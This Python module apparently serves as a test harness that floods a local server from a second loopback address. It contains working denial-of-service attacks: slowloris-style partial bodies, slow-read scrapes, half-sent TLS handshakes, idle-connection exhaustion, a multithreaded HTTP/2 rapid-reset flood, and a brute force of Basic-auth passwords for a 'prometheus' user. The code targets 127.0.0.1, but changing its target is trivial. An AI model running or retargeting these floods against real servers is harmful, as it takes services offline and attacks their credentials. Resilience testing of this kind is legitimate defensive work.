"""The attackers: each floods one address for some seconds from a process of its own."""

import base64
import os
import selectors
import socket
import ssl
import threading
import time

ATTACKER = "127.0.0.2"  # another client than the scraper's 127.0.0.1
GET = b"GET %s HTTP/1.1\r\nHost: x\r\n%s\r\n"
CLIENT_HELLO = bytes.fromhex("160301020001 0001fc0303".replace(" ", "")) + bytes(40)  # a record of 512 bytes, a tenth of it sent
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


def connect(port, source, buffer=0):
    one = socket.socket()
    if buffer:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    one.bind((source, 0))
    one.settimeout(5)
    one.connect(("127.0.0.1", port))
    return one


def hold(port, source, seconds, number, hello, drip=0, buffer=0):
    """Keeps connections open that have sent a beginning, and opens those again that were closed."""
    selector = selectors.DefaultSelector()
    count, opened, end = 0, 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(min(100, number - count)):
            try:
                one = connect(port, source, buffer)
                one.sendall(hello)
                one.setblocking(False)
                selector.register(one, selectors.EVENT_READ)
                count += 1
                opened += 1
            except OSError:
                break
        waited = selector.select(0.05)
        for key, _ in waited:
            try:
                gone = not key.fileobj.recv(drip or 65536) if drip or not buffer else not key.fileobj.recv(1, socket.MSG_PEEK)
            except BlockingIOError:
                gone = False
            except OSError:
                gone = True
            if gone:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                count -= 1
        if buffer and waited:
            time.sleep(0.2)
    return opened


def half_bodies(port, source, seconds):
    return hold(port, source, seconds, 40, GET % (b"/metrics", b"Content-Length: 1000\r\n"), buffer=4096)


def slow_scrapes(port, source, seconds):
    return hold(port, source, seconds, 45, (GET % (b"/metrics", b"")) * 4, drip=512, buffer=4096)


def slow_scripts(port, source, seconds):
    return hold(port, source, seconds, 600, (GET % (b"/assets/js/main.js", b"")) * 8, buffer=4096)


def half_handshakes(port, source, seconds):
    return hold(port, source, seconds, 1500, CLIENT_HELLO)


def idle_connections(port, source, seconds):
    return hold(port, source, seconds, 3000, b"")


def in_threads(seconds, number, step):
    end = time.monotonic() + seconds
    counts = [0] * number

    def repeat(index):
        while time.monotonic() < end:
            try:
                counts[index] += step(end)
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=repeat, args=(index,)) for index in range(number)]
    [one.start() for one in threads]
    [one.join() for one in threads]
    return sum(counts)


def rapid_resets(port, source, seconds):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    block = b"\x82\x87\x04\x08/metrics\x01\x01x"

    def step(end):
        count = 0
        with context.wrap_socket(connect(port, source)) as one:
            one.sendall(PREFACE)
            for first in range(1, 1 << 20, 200):
                batch = b""
                for stream in range(first, first + 200, 2):
                    name = stream.to_bytes(4, "big")
                    batch += len(block).to_bytes(3, "big") + b"\1\5" + name + block + b"\0\0\4\3\0" + name + b"\0\0\0\x08"
                one.sendall(batch)
                count += 100
                if time.monotonic() > end:
                    break
        return count

    return in_threads(seconds, 8, step)


def wrong_passwords(port, source, seconds):
    def step(end):
        with connect(port, source) as one:
            one.settimeout(15)
            pair = base64.b64encode(b"prometheus:" + os.urandom(6).hex().encode())
            one.sendall(GET % (b"/metrics", b"Connection: close\r\nAuthorization: Basic " + pair + b"\r\n"))
            while one.recv(4096):
                pass
        return 1

    return in_threads(seconds, 16, step)
